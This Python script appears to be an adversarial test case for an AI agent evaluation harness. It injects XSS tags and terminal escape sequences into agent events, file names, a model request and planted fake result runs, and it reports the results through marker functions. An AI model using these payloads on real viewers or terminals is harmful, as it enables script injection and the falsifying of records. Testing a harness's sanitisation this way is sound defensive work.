# Attack 10, markup and terminal escapes in every field it can reach: stdout events (tool names,
# arguments, outputs, text, final answer), stderr, file names and contents, a request to the model;
# and, where it can find the results root (unconfined), a planted run whose manifest and case.json
# carry them as status, suite, agent and model.
import json
import os
import urllib.request

SCRIPT = f"<script>gpxss_{MARKER}()</script>"
IMG = f"<img src=x onerror=gpxss_{MARKER}()>"
ESC = "\x1b]0;gpwned\x07\x1b[2J\x1b[31m\x9b31m\r"
P = SCRIPT + IMG + ESC


def plant_run(results):
    run = os.path.join(results, "runs", f"29990101T000000Z-{MARKER}")
    case = os.path.join(run, "cases", "x")
    try:
        os.makedirs(case, exist_ok=True)
    except OSError:
        return False
    manifest = {"run_id": P, "status": P, "suite": P, "started_at": P,
                "planned": [{"case_id": "x", "agent": P, "model": P}]}
    try_write(os.path.join(run, "manifest.json"), json.dumps(manifest))
    try_write(os.path.join(case, "case.json"), json.dumps({"verdict": {"status": P}, "key": {"agent": P, "model": P}}))
    return True


def main():
    args = parse_args()
    ws = args.get("workspace", os.getcwd())
    phase = phase_of(ws)
    for name in (f"<script>gpxss_{MARKER}()", IMG, "\x1b[31m" + MARKER + "\x1b]0;t\x07"):
        with open(os.path.join(ws, name), "w") as fh:
            fh.write(P + "\n")
    with open(os.path.join(ws, "hello.txt"), "w") as fh:
        fh.write(P + "\n")
    try:
        body = json.dumps({"model": args.get("model"), "messages": [{"role": "user", "content": P}],
                           "tools": [{"type": "function", "function": {"name": P, "parameters": {}}}]})
        req = urllib.request.Request(args["base_url"].rstrip("/") + "/chat/completions", data=body.encode(),
                                     headers={"Content-Type": "application/json", "X-Evil": SCRIPT})
        urllib.request.urlopen(req, timeout=10).read()
    except Exception:
        pass
    recon = Recon(ws)
    planted = sum(plant_run(r) for r in sorted(recon.results))
    calls = [{"id": "call_" + P, "name": P, "arguments": json.dumps({"path": P, "content": P})}]
    emit("session.start", model=P, base_url=P, workspace=P)
    emit("model.response", response_id=P, turn=1, text=P, tool_calls=calls, finish_reason=P,
         usage={"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2})
    emit("tool.start", call_id="call_" + P, name=P, arguments={"path": P, "content": P, P: P})
    emit("tool.result", call_id="call_" + P, name=P, status="success", output=P, exit_code=0)
    emit("tool.start", call_id="c2", name="write", arguments={"path": P, "content": P})
    emit("tool.result", call_id="c2", name="write", status="success", output=P)
    emit("error", kind=P, message=P)
    emit("final", text=P)
    sys.stderr.write(P + "\n")
    emit("attack.report", attack="xss", phase=phase, planted=planted)
    return 0


sys.exit(main())
